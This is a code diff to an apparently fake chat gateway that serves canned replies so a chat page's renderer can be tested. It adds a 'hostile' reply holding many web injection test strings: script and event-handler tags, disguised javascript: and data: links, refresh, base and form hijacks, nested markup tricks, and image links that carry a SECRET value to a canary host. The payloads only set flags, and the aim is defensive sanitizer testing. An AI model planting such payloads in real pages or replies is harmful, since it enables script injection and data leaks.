@@ -1,7 +1,8 @@
 /**
  * A FAKE gateway, for looking at the page only: nothing here is stored, checked or secure, and no
  * model answers. Words in the message choose what happens: "break", "gap", "reset", "fail",
- * "refuse", "queue", "slow", "full" (budget used up), "cut" (the stored text is ahead of the stream).
+ * "refuse", "queue", "slow", "full" (budget used up), "hello" (short), "hostile" (attacks in the text),
+ * "flood" (22 kB at the speed of a large server).
  */
 import { createServer } from "node:http";
 import { readFile } from "node:fs/promises";
@@ -55,6 +56,25 @@ def step_seconds(batch: int, weights: float = 16e9, bandwidth: float = 3.35e12) 
 > A larger batch shares one read among more people.
 
 See [the roofline model](https://en.wikipedia.org/wiki/Roofline_model) and ![a chart](https://h.example/p.png?leak=1). Raw HTML stays text: <img src=x onerror=alert(1)>.`;
+
+const HOSTILE = `Text <script>globalThis.broken=1</script> <img src=https://canary.example/1 onerror="globalThis.broken=2"> <svg onload="globalThis.broken=3"></svg>
+
+![pixel](https://canary.example/2?q=SECRET) ![][ref] [run](javascript:globalThis.broken=4) [run2](JaVaScRiPt&colon;globalThis.broken=5) [data](data:text/html,<script>1</script>) <javascript:globalThis.broken=6>
+
+[ref]: https://canary.example/3
+
+<meta http-equiv="refresh" content="0;url=https://canary.example/4"><base href="https://canary.example/"><form action="https://canary.example/5"><input></form>
+
+\`\`\`"><img src=x onerror=globalThis.broken=7>
+<video poster=https://canary.example/6></video>
+\`\`\`
+
+<math><mtext><table><mglyph><style><img src=x onerror=globalThis.broken=8></style></mglyph></table></mtext></math>
+
+$$\\href{javascript:globalThis.broken=9}{x} \\htmlStyle{background:url(https://canary.example/7)}{y} \\includegraphics{https://canary.example/8}$$
+
+Prices: $1.50 and $3, \\(a^2\\) is maths. \u202Eright to left\u202C end.`;
+const FLOOD = Array.from({ length: 22 }, (_, i) => `${ANSWER}\n\nPart ${i}.\n\n`).join("").slice(0, 22_000);
 
 seed();
 
@@ -178,8 +198,8 @@ function begin(conversationId, asked, body, key) {
   logs.set(reply.id, log);
   conversations.get(conversationId).activeMessageId = reply.id;
   const meta = () => ({ messageId: reply.id, userMessageId: asked.id, conversationId, model: reply.model, requested: reply.requested, reason: reply.reason, notices: reply.notices, attempt: log.attempt });
-  const sentences = (/\bhello\b/i.test(text) ? "Hello! How are you today?" : ANSWER).match(/[^.\n]*[.\n]+|[^.\n]+$/g);
-  const gap = /\bslow\b/.test(text) ? 900 : 250;
+  const sentences = answerTo(text).match(/[^.\n]*[.\n]+|[^.\n]+$/g);
+  const gap = /\bslow\b/.test(text) ? 900 : /\bflood\b/.test(text) ? 40 : 250;
   const tick = () => {
     if (log.ended) return;
     if (log.queue > 0) {
@@ -204,6 +224,12 @@ function begin(conversationId, asked, body, key) {
   };
   setTimeout(tick, 700);
   return reply;
+}
+
+function answerTo(text) {
+  if (/\bhostile\b/.test(text)) return HOSTILE;
+  if (/\bflood\b/.test(text)) return FLOOD;
+  return /\bhello\b/i.test(text) ? "Hello! How are you today?" : ANSWER;
 }
 
 function finish(reply, log, status, done) {
